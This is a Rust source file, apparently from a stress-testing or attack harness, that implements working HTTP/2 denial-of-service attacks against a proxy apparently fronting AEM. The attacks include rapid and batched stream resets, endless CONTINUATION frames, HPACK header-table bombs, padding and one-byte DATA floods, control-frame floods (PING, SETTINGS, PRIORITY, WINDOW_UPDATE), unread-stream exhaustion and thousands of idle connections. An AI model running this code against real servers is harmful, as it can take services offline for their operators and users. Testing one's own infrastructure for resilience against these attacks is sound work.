//! What clients can do over HTTP/2.

use std::{io, sync::Arc, time::Duration};

use tokio::{io::AsyncWriteExt, time::timeout};

use crate::{
    frames::{
        self, DATA, END_HEADERS, END_STREAM, FRAME_MAX, HEADERS, Http2, PING, PRIORITY, RST_STREAM, SETTINGS,
        STREAMS, UNKNOWN, WINDOW_MAX, WINDOW_UPDATE,
    },
    target::{Target, hold, swarm, swarm_again},
};

/// The kernel's buffer of a client that does not read.
const SMALL_BUFFER: Option<u32> = Some(4096);

/// Of what a head is made.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum References {
    /// Entries of nearly the whole dynamic table.
    Dynamic,
    /// The same, in three frames.
    Continued,
    /// A field without a value.
    Static,
    /// A field of two bytes.
    Small,
    /// As many as fit into 60 KB.
    Beyond,
    /// Cookie fields, which become one.
    Cookies,
}

/// Heads that are short on the wire and long in memory, on streams that stay.
pub async fn references(target: Arc<Target>, count: usize, how: References, method: &'static str) {
    swarm(&target, count, move |target, _| async move {
        let mut http2 = Http2::open(&target, 65_535, None).await?;
        let request = frames::request(method, b"/wait", &target);
        let mut bytes = Vec::new();
        for index in 0..http2.count(STREAMS) {
            let mut block = request.clone();
            let mut first = |name: &[u8], value: &[u8]| {
                if index == 0 {
                    frames::indexed_field(&mut block, name, value);
                }
            };
            let (reference, times) = match how {
                References::Dynamic | References::Continued => {
                    first(b"x", &[b'a'; 4000]);
                    (frames::NEWEST, 14)
                }
                References::Static => (frames::STATIC_FIELD, 1300),
                References::Small => {
                    first(b"x", b"a");
                    (frames::NEWEST, 1800)
                }
                References::Beyond => {
                    first(b"x", &[b'a'; 4000]);
                    (frames::NEWEST, 60_000)
                }
                References::Cookies => {
                    first(b"cookie", b"a=b");
                    (frames::NEWEST, 1300)
                }
            };
            block.resize(block.len() + times, reference);
            let size = if how == References::Continued { block.len() / 3 + 1 } else { FRAME_MAX };
            let stream = http2.next();
            bytes.extend_from_slice(&frames::head(stream, END_STREAM, &block, size, true));
        }
        target.send(&mut http2.conn, &bytes).await?;
        http2.read_all().await
    })
    .await;
}

/// The same in trailers, of uploads that have begun.
pub async fn trailers(target: Arc<Target>) {
    swarm(&target, 24, |target, _| async move {
        let mut http2 = Http2::open(&target, 65_535, None).await?;
        let block = frames::request("POST", b"/no-read", &target);
        let streams = http2.count(STREAMS);
        http2.ask(&target, streams, 0, &block).await?;
        let mut bytes = Vec::new();
        for index in 0..streams {
            let mut block = Vec::new();
            if index == 0 {
                frames::indexed_field(&mut block, b"x", &[b'a'; 4000]);
            }
            block.resize(block.len() + 14, frames::NEWEST);
            let id = u32::try_from(index * 2 + 1).unwrap_or(1);
            bytes.extend_from_slice(&frames::head(id, END_STREAM, &block, FRAME_MAX, true));
        }
        target.send(&mut http2.conn, &bytes).await?;
        http2.read_all().await
    })
    .await;
}

pub async fn unfinished_heads(target: Arc<Target>) {
    swarm(&target, 300, |target, _| async move {
        let mut http2 = Http2::open(&target, 65_535, None).await?;
        let mut block = frames::request("GET", b"/wait", &target);
        for _ in 0..15 {
            frames::field(&mut block, b"x-long", &[b'a'; 4000]);
        }
        let bytes = frames::head(1, END_STREAM, &block, FRAME_MAX, false);
        target.send(&mut http2.conn, &bytes).await?;
        http2.read_all().await
    })
    .await;
}

/// CONTINUATION frames of this size without end.
pub async fn continuation(target: Arc<Target>, size: usize) {
    swarm_again(&target, 20, move |target, _| async move {
        let mut http2 = Http2::open(&target, 65_535, None).await?;
        let block = frames::request("GET", b"/small", &target);
        let mut bytes = frames::head(1, END_STREAM, &block, FRAME_MAX, false);
        target.send(&mut http2.conn, &bytes).await?;
        bytes.clear();
        // Each is a whole field, so that it can be decoded.
        let mut part = Vec::new();
        if size > 0 {
            frames::field(&mut part, b"x", &vec![b'a'; size - 10]);
        }
        while bytes.len() < 1 << 16 {
            frames::push(&mut bytes, frames::CONTINUATION, 0, 1, &part);
        }
        loop {
            target.send(&mut http2.conn, &bytes).await?;
            tokio::task::yield_now().await;
        }
    })
    .await;
}

pub async fn unread(target: Arc<Target>, count: usize, path: &'static str) {
    unread_window(target, count, path, WINDOW_MAX).await;
}

/// Asks on all streams, with windows that are this wide, and never reads.
pub async fn unread_window(target: Arc<Target>, count: usize, path: &'static str, window: u32) {
    swarm(&target, count, move |target, _| async move {
        let mut http2 = Http2::open(&target, window, SMALL_BUFFER).await?;
        let block = frames::request("GET", path.as_bytes(), &target);
        http2.ask(&target, STREAMS, END_STREAM, &block).await?;
        hold().await
    })
    .await;
}

/// Asks for what does not come, and reads.
pub async fn waiting(target: Arc<Target>, count: usize) {
    swarm(&target, count, |target, _| async move {
        let mut http2 = Http2::open(&target, 65_535, None).await?;
        let block = frames::request("GET", b"/wait", &target);
        http2.ask(&target, STREAMS, END_STREAM, &block).await?;
        http2.read_all().await
    })
    .await;
}

/// Uploads on all streams, as far as the windows allow, in DATA frames of this size.
pub async fn uploads(target: Arc<Target>, count: usize, path: &'static str, size: usize) {
    swarm(&target, count, move |target, _| async move {
        let mut http2 = Http2::open(&target, 65_535, None).await?;
        let block = frames::request("POST", path.as_bytes(), &target);
        let streams = http2.count(STREAMS);
        http2.ask(&target, streams, 0, &block).await?;
        let mut sent = vec![0_i64; streams];
        let mut allowed = vec![http2.stream_window; streams];
        let whole = i64::try_from(size).unwrap_or(1);
        loop {
            let mut bytes = Vec::new();
            for index in 0..streams {
                let data = vec![b'a'; size];
                let id = u32::try_from(index * 2 + 1).unwrap_or(1);
                while http2.window >= whole && allowed[index] - sent[index] >= whole && bytes.len() < 1 << 20
                {
                    frames::push(&mut bytes, DATA, 0, id, &data);
                    sent[index] += whole;
                    http2.window -= whole;
                }
            }
            target.send(&mut http2.conn, &bytes).await?;
            // A frame is read as a whole or not at all: what comes here is small.
            while let Ok(frame) = timeout(Duration::from_millis(50), http2.read()).await {
                let frame = frame?;
                if frame.kind == WINDOW_UPDATE && frame.stream > 0 {
                    let more = frame.payload.iter().fold(0_i64, |sum, byte| sum << 8 | i64::from(*byte));
                    if let Some(allowed) = allowed.get_mut((frame.stream as usize - 1) / 2) {
                        *allowed += more;
                    }
                }
            }
        }
    })
    .await;
}

/// DATA frames of one byte, with frames of an unknown type between them or not.
pub async fn tiny_data(target: Arc<Target>, with_unknown: bool) {
    swarm_again(&target, 8, move |target, _| async move {
        let mut http2 = Http2::open(&target, 65_535, None).await?;
        let block = frames::request("POST", b"/sink", &target);
        let streams = http2.count(STREAMS);
        http2.ask(&target, streams, 0, &block).await?;
        let window = usize::try_from(http2.stream_window).unwrap_or(0);
        let unknown = vec![0; FRAME_MAX];
        // As much as the windows allow whatever the proxy does.
        for _ in 0..window {
            let mut bytes = Vec::new();
            for index in 0..streams {
                let id = u32::try_from(index * 2 + 1).unwrap_or(1);
                frames::push(&mut bytes, DATA, 0, id, b"a");
            }
            if with_unknown {
                frames::push(&mut bytes, UNKNOWN, 0, 0, &unknown);
            }
            target.send(&mut http2.conn, &bytes).await?;
        }
        Ok(())
    })
    .await;
}

pub async fn empty_data(target: Arc<Target>) {
    flood(target, |http2, target, bytes| {
        http2_post(http2, target, bytes);
        frames::frame(DATA, 0, 1, b"").repeat(5000)
    })
    .await;
}

/// Frames of padding alone: they count against the windows, which the proxy has to open again.
pub async fn padding(target: Arc<Target>) {
    swarm_again(&target, 8, |target, _| async move {
        let mut http2 = Http2::open(&target, 65_535, None).await?;
        let block = frames::request("POST", b"/sink", &target);
        let streams = http2.count(STREAMS);
        http2.ask(&target, streams, 0, &block).await?;
        let mut payload = vec![0; 256];
        payload[0] = 255;
        let frames_each = usize::try_from(http2.stream_window).unwrap_or(0) / 256;
        for _ in 0..frames_each {
            let mut bytes = Vec::new();
            for index in 0..streams {
                let id = u32::try_from(index * 2 + 1).unwrap_or(1);
                // The flag PADDED.
                frames::push(&mut bytes, DATA, 8, id, &payload);
            }
            target.send(&mut http2.conn, &bytes).await?;
        }
        Ok(())
    })
    .await;
}

pub async fn rapid_reset(target: Arc<Target>) {
    swarm_again(&target, 8, |target, _| async move {
        let mut http2 = Http2::open(&target, 65_535, None).await?;
        let block = frames::request("GET", b"/wait", &target);
        loop {
            let mut bytes = Vec::new();
            for _ in 0..100 {
                let stream = http2.next();
                bytes.extend_from_slice(&frames::head(stream, END_STREAM, &block, FRAME_MAX, true));
                frames::push(&mut bytes, RST_STREAM, 0, stream, &8_u32.to_be_bytes());
            }
            target.send(&mut http2.conn, &bytes).await?;
            drain(&mut http2).await?;
        }
    })
    .await;
}

/// The requests reach AEM before they are reset.
pub async fn batched_reset(target: Arc<Target>) {
    swarm_again(&target, 8, |target, _| async move {
        let mut http2 = Http2::open(&target, 65_535, None).await?;
        let block = frames::request("GET", b"/wait", &target);
        loop {
            let (mut bytes, mut resets) = (Vec::new(), Vec::new());
            for _ in 0..http2.count(100) {
                let stream = http2.next();
                bytes.extend_from_slice(&frames::head(stream, END_STREAM, &block, FRAME_MAX, true));
                frames::push(&mut resets, RST_STREAM, 0, stream, &8_u32.to_be_bytes());
            }
            target.send(&mut http2.conn, &bytes).await?;
            drain(&mut http2).await?;
            target.send(&mut http2.conn, &resets).await?;
            drain(&mut http2).await?;
        }
    })
    .await;
}

/// Reads what has come.
async fn drain(http2: &mut Http2) -> io::Result<()> {
    while let Ok(frame) = timeout(Duration::from_millis(5), http2.read()).await {
        frame?;
    }
    Ok(())
}

/// Frames that have to be answered or kept account of.
#[derive(Debug, Clone, Copy)]
pub enum Control {
    Ping,
    Settings,
    Windows,
    Priority,
    WindowUpdate,
}

pub async fn control(target: Arc<Target>, what: Control) {
    flood(target, move |http2, target, bytes| {
        http2_post(http2, target, bytes);
        match what {
            Control::Ping => frames::frame(PING, 0, 0, &[0; 8]).repeat(3000),
            Control::Settings => frames::frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]).repeat(3000),
            Control::Windows => {
                let block = frames::request("GET", b"/large", target);
                for _ in 1..http2.count(STREAMS) {
                    let stream = http2.next();
                    bytes.extend_from_slice(&frames::head(stream, END_STREAM, &block, FRAME_MAX, true));
                }
                let small = frames::frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 1]);
                let large = frames::frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 2]);
                [small, large].concat().repeat(1500)
            }
            Control::Priority => frames::frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 16]).repeat(3000),
            Control::WindowUpdate => {
                let connection = frames::frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]);
                let stream = frames::frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1]);
                [connection, stream].concat().repeat(1500)
            }
        }
    })
    .await;
}

/// Opens the first stream with an upload that does not end.
fn http2_post(http2: &mut Http2, target: &Target, bytes: &mut Vec<u8>) {
    let stream = http2.next();
    let block = frames::request("POST", b"/sink", target);
    frames::push(bytes, HEADERS, END_HEADERS, stream, &block);
}

/// Repeats a batch of frames on 8 connections, and reads nothing.
async fn flood<F>(target: Arc<Target>, batch: F)
where
    F: Fn(&mut Http2, &Target, &mut Vec<u8>) -> Vec<u8> + Clone + Send + Sync + 'static,
{
    swarm_again(&target, 8, move |target, _| {
        let batch = batch.clone();
        async move {
            let mut http2 = Http2::open(&target, 65_535, SMALL_BUFFER).await?;
            let mut first = Vec::new();
            let again = batch(&mut http2, &target, &mut first);
            http2.conn.write_all(&first).await?;
            loop {
                target.send(&mut http2.conn, &again).await?;
                tokio::task::yield_now().await;
            }
        }
    })
    .await;
}

/// Leaves while AEM is asked.
pub async fn churn(target: Arc<Target>) {
    swarm_again(&target, 20, |target, _| async move {
        let mut http2 = Http2::open(&target, WINDOW_MAX, None).await?;
        let block = frames::request("GET", b"/large", &target);
        http2.ask(&target, STREAMS, END_STREAM, &block).await?;
        tokio::time::sleep(Duration::from_millis(30)).await;
        Ok(())
    })
    .await;
}

pub async fn idle(target: Arc<Target>) {
    swarm(
        &target,
        2000,
        |target, _| async move { Http2::open(&target, 65_535, None).await?.read_all().await },
    )
    .await;
}

/// Paths of 60 KB that take long to judge, 52 at once on one connection.
pub async fn long_paths(target: Arc<Target>, part: &'static str) {
    swarm_again(&target, 1, move |target, _| async move {
        let mut http2 = Http2::open(&target, WINDOW_MAX, None).await?;
        let mut path = b"/etc.".to_vec();
        while path.len() < 60_000 {
            path.extend_from_slice(part.as_bytes());
        }
        path.extend_from_slice(b"json");
        let block = frames::request("GET", &path, &target);
        let streams = http2.count(52);
        http2.ask(&target, streams, END_STREAM, &block).await?;
        let mut ended = 0;
        while ended < streams {
            let frame = http2.read().await?;
            let ends = matches!(frame.kind, DATA | HEADERS) && frame.flags & END_STREAM > 0;
            ended += usize::from(ends || frame.kind == RST_STREAM);
        }
        Ok(())
    })
    .await;
}
